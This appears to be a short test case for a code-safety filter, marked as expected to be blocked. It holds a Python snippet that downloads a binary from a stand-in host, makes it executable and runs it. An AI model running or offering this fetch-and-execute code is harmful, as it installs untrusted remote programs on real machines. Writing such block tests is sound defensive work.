# expect: BLOCKED
import urllib.request, os, subprocess, stat
path, _ = urllib.request.urlretrieve("http://evil.test/bin")
os.chmod(path, stat.S_IRWXU)
subprocess.Popen([path])
